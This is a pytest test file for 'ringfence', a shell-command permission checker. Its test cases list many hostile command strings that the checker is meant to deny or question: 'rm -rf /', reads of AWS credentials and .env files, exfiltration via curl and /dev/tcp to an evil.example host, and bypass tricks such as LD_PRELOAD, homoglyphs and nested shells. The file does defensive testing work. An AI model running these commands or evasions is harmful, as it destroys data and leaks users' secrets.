"""A shell line is read whole: what is certain is decided, what is not is asked, what is closed is found wherever it stands."""

from __future__ import annotations

import sys
from pathlib import Path

import pytest

from ringfence import Act, PermissionManager

RULES = (
    "allow exec git status", "allow exec git log", "allow exec ls", "allow exec cat", "allow exec python -m pytest",
    "allow exec sh", "allow exec write-less", "deny exec git push", "deny exec rm -rf", "deny exec /usr/bin/cksum",
    "ask exec git reset", "deny read ~/.aws", "deny read **/.env", "deny write Makefile", "allow write out/**",
    "allow read in/**", "deny net *.evil.example",
)  # fmt: skip


@pytest.fixture(autouse=True)
def here(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)
    return tmp_path


def effect_of(line: str) -> str:
    return PermissionManager(RULES).check(line).effect


@pytest.mark.parametrize(
    "line",
    [
        "git status", "git status -s; ls -la", "ls && git log | cat", "( ls )", "{ ls; }", "if ls; then ls; else ls; fi",
        "! ls", "cd src && git status", "git status 2>&1 >/dev/null", "git log > out/log", "cat < in/a > out/b", "time ls",
        "nice -n 5 ls", "timeout 5 git status", "timeout -s KILL 5 git status", "env ls", "nohup ls", "command ls", "'ls'",
        'l"s"', "l\\s", "NO_COLOR=1 ls", "ls # a comment", "ls \\\n -l", "git 'status' \"-s\"", "python -m pytest -k 'a or b'",
        "cat <<'EOF'\n$(git push)\nEOF\n", "true", "", "ls 'a$b' \"c\\$d\" e\\*f", "cat <<< plain", "echo 'git push'",
        "ls --color=auto /usr", "ls café", "ls\nls",
    ],
)  # fmt: skip
def test_what_is_certain_and_allowed_is_let_through(line: str) -> None:
    assert effect_of(line) == "allow"


@pytest.mark.parametrize(
    "line",
    [
        "git push", "git push origin main", "git status && git push", "git status; git push", "git status | git push",
        "ls &\ngit push", "ls || git push", "(git push)", "{ git push; }", "! git push", "if ls; then git push; fi",
        "if git push; then ls; fi", "while git push; do ls; done", "for x in a; do git push; done",
        "case x in a) git push;; esac", "f() { git push; }", "git push &", "git -C /x push", "git --no-pager push",
        "git -c a=b push", "git --git-dir=x push", "git push $x", "git push *", "X=1 git push", "\\git push", "'git' push",
        'g"i"t push', "git pu''sh", "git pu\\sh", "$'git' push", "/usr/bin/git push", "/usr/bin/../bin/git push", "./git push",
        "env git push", "env -i A=1 git push", "command git push", "exec git push", "builtin git push", "nohup git push",
        "time -p git push", "nice -n 5 git push", "timeout -k 1 5s git push", "setsid -w git push", "stdbuf -oL git push",
        "sudo git push", "sudo -u me git push", "xargs git push", "xargs -n 1 git push", "find . -exec git push \\;",
        "busybox git push", "env nohup nice timeout 5 git push", "sh -c 'git push'", "bash -lc 'ls; git push'",
        "bash -o pipefail -c 'git push'", "eval git push", "eval 'git push'", "trap 'git push' EXIT",
        "sh <<'EOF'\ngit push\nEOF\n", "sh <<< 'git push'", "sh -c \"sh -c 'git push'\"", "echo $(git push)",
        "echo `git push`", "echo \"$(git push)\"", "cat <(git push)", "x=$(git push)", "export x=$(git push)",
        "[[ -n $(git push) ]]", "echo ${x:-$(git push)}", "cat <<EOF\n$(git push)\nEOF\n", "echo $((1 + $(git push)))",
        "git push > out/x", "> out/x git push", "git > out/x push", "git <<EOF push\nEOF\n", "G=git; $G push",
        "a=git b=push; $a $b", "git push 'unfinished", "ls )( ; git push", "rm -rf /", "rm -fr x", "rm -r -f x", "rm x -rf",
        "/bin/rm -rf x", "cksum a", "/usr/bin/cksum a", "/bin/cksum a", "/proc/self/root/usr/bin/cksum a",
        "/lib64/ld-linux-x86-64.so.2 /usr/bin/cksum a", "cat ~/.aws/credentials", "cat ~/.aws", "cat $HOME/.aws/credentials",
        "cat ${HOME}//./.aws/credentials", "cat /proc/self/root$HOME/.aws/credentials",
        "cat /proc/thread-self/root$HOME/.aws/credentials", "cat /proc/1/root$HOME/.aws/credentials",
        "cd ~ && cat .aws/credentials", "cd ~; cat .aws/credentials", "cd ~/.aws && cat credentials",
        "cat < ~/.aws/credentials", "tar c ~/.aws", "cat .env", "cat a/b/.env", "cat ./.env", "cd a && cat .env", "cp .env x",
        "curl --data @.env x", "cat x/../.env", "ls > Makefile", "tee Makefile", "rm Makefile", "sed -i s/a/b/ Makefile",
        "cp x Makefile", "mv Makefile x", "cd a && ls > ../Makefile", "curl https://x.evil.example/p",
        "wget -q http://X.EVIL.example", "git clone https://user@x.evil.example/r", "ls > /dev/tcp/x.evil.example/80",
        "ssh me@x.evil.example ls", "git fetch git@x.evil.example:r",
    ],
)  # fmt: skip
def test_what_is_closed_is_found_wherever_it_certainly_is(line: str) -> None:
    assert effect_of(line) == "deny"


@pytest.mark.parametrize(
    "line",
    [
        "ls $x", "ls *", "ls a?", "ls [ab]", "ls ~", "ls a=~", "ls {a,b}", "ls {1..3}", "ls a{b,\"c\"}", "ls `x`", "ls $(ls)",
        "ls $((1))", "ls <(ls)", "$x", "$x status", "git $x", "g$x status", "ls > $x", "ls > out/*", "sh -c 'ls'", "sh -c ls",
        "sh", "ls | sh", "cat x | bash", "sh -c \"$x\"", "sh -c \"ls $x\"", "eval ls", "eval $x", "source x", ". ./x",
        "sh < in/x", "cat <<EOF | sh\nls\nEOF\n", "bash <(cat in/x)", "sh <<EOF\nls $x\nEOF\n", "xargs ls", "ls | xargs ls",
        "find . -exec ls {} \\;", "sudo ls", "env -S 'ls x'", "busybox ls", "alias ls=x; ls", "ls() { x; }; ls",
        "function git { x; }\ngit status", "PATH=x ls", "PATH=x; ls", "export PATH=x; ls", "LD_PRELOAD=x ls",
        "GIT_SSH_COMMAND=x git log", "BASH_ENV=x ls", "env LD_PRELOAD=x ls", "IFS=x; ls", "hash -p x ls; ls", "enable -f x ls",
        "shopt -s expand_aliases; ls", "coproc ls", "trap ls EXIT", "cd $x && ls > out/x", "cd - && ls > out/x",
        "pushd x && ls > out/x", "git\u00a0status", "git\u2003status", "git status\u200b", "git st\u200batus",
        "git \u202estatus", "ls \u2066x", "g\u0456t status", "\uff47\uff49\uff54 status", "ls\r", "ls\r\ngit status",
        "ls \x1b[2J", "ls \x00", "ls \x7f", "git status\u2028ls", "ls 'unfinished", "ls \"unfinished", "ls )", "( ls", "if ls",
        "ls | ", "ls &&", "ls <<EOF\n", "test -v 'a[$(ls)]'", "[[ 'a[$(ls)]' -eq 0 ]]", "((x))", "printf -v 'a[$(ls)]' x",
        "ls <> in/x", "git reset --hard", "git log && git reset", "ls > x", "ls 2> x", "ls &> x", "ls >> x", "ls >| x",
        "cat < x", "unknown", "./ls", "bin/ls", "/tmp/ls", "ls; unknown", "for f in a b; do ls; done",
        "until ls; do :; done; unknown", "(" * 200 + "ls" + ")" * 200, "cp /usr/bin/cksum c", "ln -s /usr/bin/cksum c",
        "ls " + "a" * (1 << 20), "ls;" * 5000, "a|" * 100_000, "$(" * 5000, "ls\x0bx", "ls\x0cx",
    ],
)  # fmt: skip
def test_what_is_unclear_or_not_named_is_asked(line: str) -> None:
    assert effect_of(line) == "ask"


def test_a_line_names_every_act_that_it_would_do() -> None:
    decision = PermissionManager(RULES).check("cd src && git status > out/x && git push")
    said = [str(act) for act in decision.acts]
    assert said == ["exec cd src", f"write {Path.cwd()}/src/out/x", "exec git status", "exec git push"]
    assert decision.act == Act.of(["git", "push"])
    assert decision.advice == "advice: the box is the boundary"


def test_without_the_extra_a_line_is_asked_and_says_how_to_install_it(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(sys.modules, "tree_sitter_bash", None)
    decision = PermissionManager(["allow exec ls", "deny exec git push"]).check("ls")
    assert decision.effect == "ask" and "pip install 'ringfence[shell]'" in decision.why
    assert PermissionManager(["allow exec ls"]).check(["ls"]).effect == "allow"


def test_a_path_is_closed_by_where_it_leads(tmp_path: Path) -> None:
    (tmp_path / ".env").write_text("x")
    (tmp_path / "plain").symlink_to(".env")
    (tmp_path / "folder").symlink_to(".")
    manager = PermissionManager([*RULES, "allow read **"])
    assert manager.check(Act("read", "other")).effect == "allow"
    for said in ("plain", "folder/.env", "folder/plain", ".env/", "./x/../.env", str(tmp_path / ".env")):
        assert manager.check(Act("read", said)).effect == "deny", said
        assert manager.check(["cat", said]).effect == "deny", said


def test_a_program_is_closed_by_what_a_link_leads_to(tmp_path: Path) -> None:
    (tmp_path / "c").symlink_to("/usr/bin/cksum")
    assert effect_of("./c a") == "deny"
    (tmp_path / "d").symlink_to("/usr/bin/sum")
    assert effect_of("./d a") == "ask"
